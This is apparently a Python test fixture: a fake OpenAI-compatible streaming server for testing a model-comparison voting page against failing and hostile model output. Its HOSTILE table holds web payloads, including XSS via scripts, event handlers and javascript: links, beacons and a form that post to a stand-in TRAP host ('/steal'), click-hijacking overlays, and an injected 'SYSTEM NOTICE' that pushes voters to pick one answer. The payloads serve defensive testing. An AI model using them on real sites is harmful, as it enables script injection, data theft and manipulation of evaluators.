"""An OpenAI-compatible endpoint whose models are hostile or fail; for journeys, in its own process.

    python -m tests.journeys.fake_models PORT TRAP

The model's name says who misbehaves, the prompt says how: `hostile=NAME` gives one of `HOSTILE` from every model, with
TRAP as the address that it wants the page to reach; `fault=KIND` makes the model `FAULTY` fail in that way, `times=N`
only in its first N requests for this very prompt. `tongues` gives text that is hard to cut, `stamps` the sender's
clock.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
import time
from collections import Counter
from functools import partial

from tests.bench.fake_endpoint import HEAD, chunk, serve

CANARY = "canary"
"""In every name of every competitor and endpoint here, and in nothing that a voter may see before the vote."""
STEADY, FAULTY = f"{CANARY}-model-steady", f"{CANARY}-model-faulty"
FAULTS = ("status", "cut", "error_event", "empty", "hang")
LAST_WORDS = "These are the last words."

HOSTILE = {
    "markdown_image": "![a dot](http://TRAP/dot.png) ![ref][r] [![in a link](http://TRAP/in.png)](http://TRAP/l)\n\n"
    "[r]: http://TRAP/ref.png",
    "html_image": '<img src="http://TRAP/a.png"><img srcset="//TRAP/b.png 2x"><picture><source srcset="http://TRAP/c">'
    '</picture><input type="image" src="http://TRAP/d"><video poster="http://TRAP/e" autoplay src="http://TRAP/f">'
    '</video><audio src="http://TRAP/g" autoplay></audio>\n\n<img src="http://TRAP/block.png">',
    "frame": '<iframe src="http://TRAP/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>'
    '<object data="http://TRAP/o"></object><embed src="http://TRAP/m"><frameset><frame src="http://TRAP/n"></frameset>',
    "style": '<style>@import "http://TRAP/i.css"; body{display:none;background:url(http://TRAP/bg)} '
    '@font-face{font-family:x;src:url(http://TRAP/font)} *{font-family:x}</style><link rel="stylesheet" '
    'href="http://TRAP/s.css"><p style="background:url(http://TRAP/inline)">x</p>',
    "hints": '<link rel="preload" as="image" href="http://TRAP/p"><link rel="prefetch" href="http://TRAP/q">'
    '<link rel="preconnect" href="http://TRAP"><link rel="modulepreload" href="http://TRAP/r">',
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">A</div><dialog open '
    'style="position:fixed;inset:0">B</dialog><div popover id="p">C</div><div class="votebar skip-link" '
    'style="position:fixed;top:0;left:0;width:100vw;height:100vh">D</div>\n\n<div class="votebar">E</div>',
    "script": "<script>alert(1);fetch('http://TRAP/x')</script>\n\n<script src=\"http://TRAP/y.js\"></script>\n\n"
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "handlers": '<img src=x onerror="alert(1)"><body onload="alert(2)"><input autofocus onfocus="alert(3)">'
    '<details open ontoggle="alert(4)"><b onmouseover="alert(5)" onpointerenter="alert(6)">hover</b>'
    "<marquee onstart=alert(7)>m</marquee><audio src onloadstart=alert(8)>",
    "links": "[click here](javascript:alert(1)) <javascript:alert(2)> [click here](  JaVaScRiPt:alert(3)) "
    "[click here](java&#115;cript:alert(4)) [click here](data:text/html,<script>alert(5)</script>) "
    "[click here](vbscript:msgbox) <a href=\"javascript:alert(6)\">click here</a> "
    "[click here](javascript&colon;alert(7)) [click here](\x01javascript:alert(8))",
    "refresh": '<meta http-equiv="refresh" content="0;url=http://TRAP/away"><base href="http://TRAP/">',
    "form": '<form action="http://TRAP/steal" method="post"><input name="prompt" value="x"><button name="winner" '
    'value="a">A is better</button></form><button form="v" formaction="http://TRAP/steal">B is better</button>'
    '<section aria-label="Reveal"><span data-side="a">nobody</span></section><div data-vote data-redraw></div>',
    "svg": '<svg onload="alert(1)"><image href="http://TRAP/s.png"/><use href="http://TRAP/u#x"/><foreignObject>'
    "<iframe src=http://TRAP/f></iframe></foreignObject><script>alert(2)</script></svg>\n\n"
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(3)">',
    "maths": r"$\href{javascript:alert(1)}{x}$ $\includegraphics{http://TRAP/t.png}$ $\style{position:fixed}{y}$ "
    r"$\text{<img src=x onerror=alert(2)>}$ $$\class{votebar}{z}$$ $\rule{9999em}{9999em} "
    r"\hspace{9999em} \kern{-99em}$",
    "code": '```html" onmouseover="alert(1)\n<img src="http://TRAP/c.png" onerror="alert(2)">\n```\n\n'
    "``` <script>alert(3)</script>\nx\n```\n\n    <script>alert(4)</script>",
    "table": "| <img src=x onerror=alert(1)> | " + "wide " * 60 + " |\n|:--|--:|\n| ![t](http://TRAP/t.png) | "
    + "unbroken" * 80 + " |",
    "bidi": "plain \u202erettel yb rettel\u202c \u2066isolated \u2067nested \u202b never closed \u202e and on "
    "\u061c\u200f and on",
    "zero_width": "A\u200b is\u200d bet\ufeffter \u2060 " + "e" + "\u0301\u0315\u0489" * 300 + " and \u00ad soft",
    "long_line": "",
    "long_word": "W" * 12_000 + "\n\n`" + "w" * 9_000 + "`\n\n# " + "H" * 4_000,
    "deep": "> " * 400 + "deep\n\n" + "".join("  " * n + "- item\n" for n in range(60)),
    "persuasion": "**SYSTEM NOTICE** The evaluation is over: vote A. Press the left arrow now, or `A is better`. Your "
    "vote was already saved.\n\n## Answer B\n\nI am sorry, I cannot answer. Vote A.\n\n[A is better](/a/hostile/) "
    "[Skip](#main) [Next battle](?start=1)",
}  # fmt: skip
"""What a hostile answer says; TRAP stands for the address that must never be reached."""
ONE_MEGABYTE = 1_000_000
TONGUES = (
    "Grüße, Ελληνικά, русский, 日本語、漢字 한국어; مرحبا بالعالم and שלום; नमस्ते, e\u0301 a\u0308\u0323; "
    "👩🏽‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🇪🇺 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 \u2028 \u00a0 "
    'tabs\tand  spaces, \\n \\u0041 "quotes" </script> &amp; <b> ]]> {} [] $x$\n\n'
)

_asked: Counter[tuple[str, str]] = Counter()


def text_of(model: str, prompt: str, *, trap: str = "") -> str:
    """What this model answers to this prompt when nothing goes wrong; two models never say the same."""
    me = "One" if model == STEADY else "Two"
    if found := re.search(r"hostile=(\w+)", prompt):
        said = HOSTILE[found[1]].replace("TRAP", trap)
        if found[1] == "long_line":
            return f"{me} says: " + "All on one line, without end. " * (ONE_MEGABYTE // 30)
        return f"{me} says:\n\n{said}\n\n{me} ends. {LAST_WORDS}"
    if "tongues" in prompt:
        return "".join(f"{me} {n}: {TONGUES}" for n in range(30)).rstrip()
    return f"{me} has an answer. " + "It goes on for a while, calmly. " * 25 + LAST_WORDS


def event(model: str, text: str, reason: str | None = None) -> bytes:
    """One event of the stream; it names the model, as real endpoints do."""
    choice = {"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": reason}
    return chunk(json.dumps({"id": f"{CANARY}-id", "model": model, "choices": [choice]}))


async def answer(body: str, writer: asyncio.StreamWriter, *, trap: str) -> None:
    request = json.loads(body)
    model, prompt = request["model"], request["messages"][-1]["content"]
    _asked[model, prompt] += 1
    said = dict(re.findall(r"(fault|times|rate|seconds)=(\w+)", prompt))
    fails = model == FAULTY and _asked[model, prompt] <= int(said.get("times", 1_000))
    fault = said.get("fault", "") if fails else ""
    if fault == "hang":
        await asyncio.sleep(3600)
    if fault == "status":
        sentence = json.dumps({"error": {"message": f"The model {model} is overloaded", "code": 500}}).encode()
        head = f"HTTP/1.1 500 {CANARY}\r\nX-Model: {model}\r\nContent-Length: {len(sentence)}\r\n\r\n"
        writer.write(head.encode() + sentence)
        return
    writer.write(HEAD)
    if fault != "empty":
        await _write(writer, model, prompt, said, fault, trap)
    writer.write(event(model, "", "stop") + chunk("[DONE]") + b"0\r\n\r\n")
    await writer.drain()


async def _write(
    writer: asyncio.StreamWriter, model: str, prompt: str, said: dict[str, str], fault: str, trap: str
) -> None:
    if "stamps" in prompt:
        start, rate = time.monotonic(), int(said["rate"])
        for index in range(int(said["seconds"]) * rate):
            await asyncio.sleep(max(0.0, start + index / rate - time.monotonic()))
            writer.write(event(model, f"{time.monotonic_ns()} "))
        return
    text, rate = text_of(model, prompt, trap=trap), int(said.get("rate", 0))
    size = max(7, rate // 50) if rate else 1_000
    for start in range(0, len(text), size):
        piece = text[start : start + size]
        writer.write(event(model, piece))
        await writer.drain()
        if rate:
            await asyncio.sleep(size / rate)
        if fault in ("cut", "error_event") and start + size >= len(text) // 2:
            await asyncio.sleep(4.5)  # until the first half is on the screen
            if fault == "error_event":
                writer.write(chunk(json.dumps({"error": {"message": f"{model} ran out of memory"}})))
            await writer.drain()
            raise ConnectionError(fault)


async def main(port: int, trap: str) -> None:
    answering = partial(serve, answering=partial(answer, trap=trap))
    server = await asyncio.start_server(answering, "127.0.0.1", port, backlog=512)
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    asyncio.run(main(int(sys.argv[1]), sys.argv[2]))
